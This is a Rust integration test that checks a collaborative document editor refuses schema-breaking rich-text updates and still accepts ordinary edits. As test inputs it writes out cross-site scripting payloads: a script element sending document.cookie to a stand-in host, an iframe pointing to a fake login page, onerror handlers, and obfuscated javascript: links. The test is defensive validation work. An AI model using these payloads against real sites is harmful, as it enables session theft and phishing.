//! A writer of a workroom brief cannot plant in it what the web editor's schema would drop
//! but another client would render: a `<script>` or `<iframe>` element, an `onerror`
//! attribute, a `javascript:` link. Each is refused `doc.invalid` over a real WebSocket, the
//! other editor receives nothing, nothing is stored, and a fresh load shows the document as it
//! was; the same writer's ordinary edits still go through.

use std::{collections::HashMap, sync::Arc};

use vitrine_protocol::ErrorCode;
use yrs::{
    updates::decoder::Decode, Any, Doc, GetString, ReadTxn, StateVector, Text, Transact, TransactionMut, Update, Xml,
    XmlElementPrelim, XmlFragment, XmlFragmentRef, XmlTextPrelim,
};

use crate::helpers::spawn_app;
use crate::realtime::{
    doc_client::DocEditor,
    docs::{stored_updates, workroom},
};

/// The editor's rich text (the fragment Tiptap binds) as XML.
fn xml(editor: &DocEditor) -> String {
    let fragment = editor.doc.get_or_insert_xml_fragment("default");
    fragment.get_string(&editor.doc.transact())
}

/// An update `make` writes on a copy of `editor`'s replica (a refused change does not stay
/// in the replica, as a client would roll it back).
fn change(editor: &DocEditor, make: impl FnOnce(&mut TransactionMut, &XmlFragmentRef)) -> Vec<u8> {
    let scratch = Doc::new();
    let state = editor.doc.transact().encode_state_as_update_v1(&StateVector::default());
    scratch.transact_mut().apply_update(Update::decode_v1(&state).unwrap()).unwrap();
    let fragment = scratch.get_or_insert_xml_fragment("default");
    let before = scratch.transact().state_vector();
    make(&mut scratch.transact_mut(), &fragment);
    let update = scratch.transact().encode_diff_v1(&before);
    update
}

fn link(href: &str) -> HashMap<Arc<str>, Any> {
    let attrs = HashMap::from([("href".to_string(), Any::from(href)), ("target".to_string(), Any::from("_blank"))]);
    HashMap::from([(Arc::from("link"), Any::Map(Arc::new(attrs)))])
}

#[tokio::test]
async fn script_iframe_onerror_and_javascript_links_are_refused_and_change_nothing() {
    let app = spawn_app().await;
    let (project, owner, designer) = workroom(&app, "schema").await;
    let ch = format!("doc:workroom-brief:{project}");
    let mut writer = DocEditor::open(&app, Some(&owner), &ch).await;
    let mut other = DocEditor::open(&app, Some(&designer), &ch).await;

    let first = change(&writer, |txn, f| {
        let p = f.push_back(txn, XmlElementPrelim::empty("paragraph"));
        p.push_back(txn, XmlTextPrelim::new("Menu board brief"));
    });
    let id = writer.send_update(first.clone()).await;
    writer.expect_ack(&id).await;
    writer.doc.transact_mut().apply_update(Update::decode_v1(&first).unwrap()).unwrap();
    other.until(|e| xml(e) == "<paragraph>Menu board brief</paragraph>").await;
    writer.settle().await;
    let before = xml(&writer);
    let stored = stored_updates(&app, &ch).await;

    let attacks: Vec<(&str, Vec<u8>)> = vec![
        (
            "a script element",
            change(&writer, |txn, f| {
                let script = f.push_back(txn, XmlElementPrelim::empty("script"));
                script.push_back(txn, XmlTextPrelim::new("fetch('https://evil.example/?c='+document.cookie)"));
            }),
        ),
        (
            "an iframe element",
            change(&writer, |txn, f| {
                let frame = f.insert(txn, 0, XmlElementPrelim::empty("iframe"));
                frame.insert_attribute(txn, "src", "https://evil.example/login");
            }),
        ),
        (
            "a paragraph with an onerror attribute",
            change(&writer, |txn, f| {
                let p = f.push_back(txn, XmlElementPrelim::empty("paragraph"));
                p.insert_attribute(txn, "onerror", "alert(document.domain)");
                p.push_back(txn, XmlTextPrelim::new("looks harmless"));
            }),
        ),
        (
            "an onerror attribute on the existing paragraph",
            change(&writer, |txn, f| {
                let p = f.get(txn, 0).unwrap().into_xml_element().unwrap();
                p.insert_attribute(txn, "onerror", "alert(document.domain)");
            }),
        ),
        (
            "a javascript: link on the existing text",
            change(&writer, |txn, f| {
                let p = f.get(txn, 0).unwrap().into_xml_element().unwrap();
                let text = p.get(txn, 0).unwrap().into_xml_text().unwrap();
                text.format(txn, 0, 4, link(" JavaScript:alert(document.domain)"));
            }),
        ),
        (
            "a new javascript: link",
            change(&writer, |txn, f| {
                let p = f.push_back(txn, XmlElementPrelim::empty("paragraph"));
                let text = p.push_back(txn, XmlTextPrelim::new(""));
                text.insert_with_attributes(txn, 0, "click me", link("java\tscript:alert(1)"));
            }),
        ),
    ];
    for (what, update) in attacks {
        let id = writer.send_update(update).await;
        assert_eq!(writer.expect_error(&id).await, ErrorCode::DocInvalid, "{what}");
    }

    other.settle().await;
    assert_eq!(xml(&other), before, "the other editor received none of it");
    assert_eq!(stored_updates(&app, &ch).await, stored, "nothing refused was stored");
    let fresh = DocEditor::open(&app, Some(&designer), &ch).await;
    assert_eq!(xml(&fresh), before, "a fresh load shows the document unchanged");

    // The same writer's ordinary rich text still goes through, links included.
    let edit = change(&writer, |txn, f| {
        let h = f.insert(txn, 0, XmlElementPrelim::empty("heading"));
        h.insert_attribute(txn, "level", Any::from(2));
        h.push_back(txn, XmlTextPrelim::new("Harbour"));
        let p = f.get(txn, 1).unwrap().into_xml_element().unwrap();
        let text = p.get(txn, 0).unwrap().into_xml_text().unwrap();
        text.format(txn, 0, 4, link("https://harbour.example/menu"));
    });
    let id = writer.send_update(edit).await;
    writer.expect_ack(&id).await;
    let fresh = DocEditor::open(&app, Some(&designer), &ch).await;
    let shown = xml(&fresh);
    assert!(shown.starts_with("<heading level=\"2\">Harbour</heading>"), "{shown}");
    assert!(shown.contains("https://harbour.example/menu") && shown.contains("board brief"), "{shown}");
}
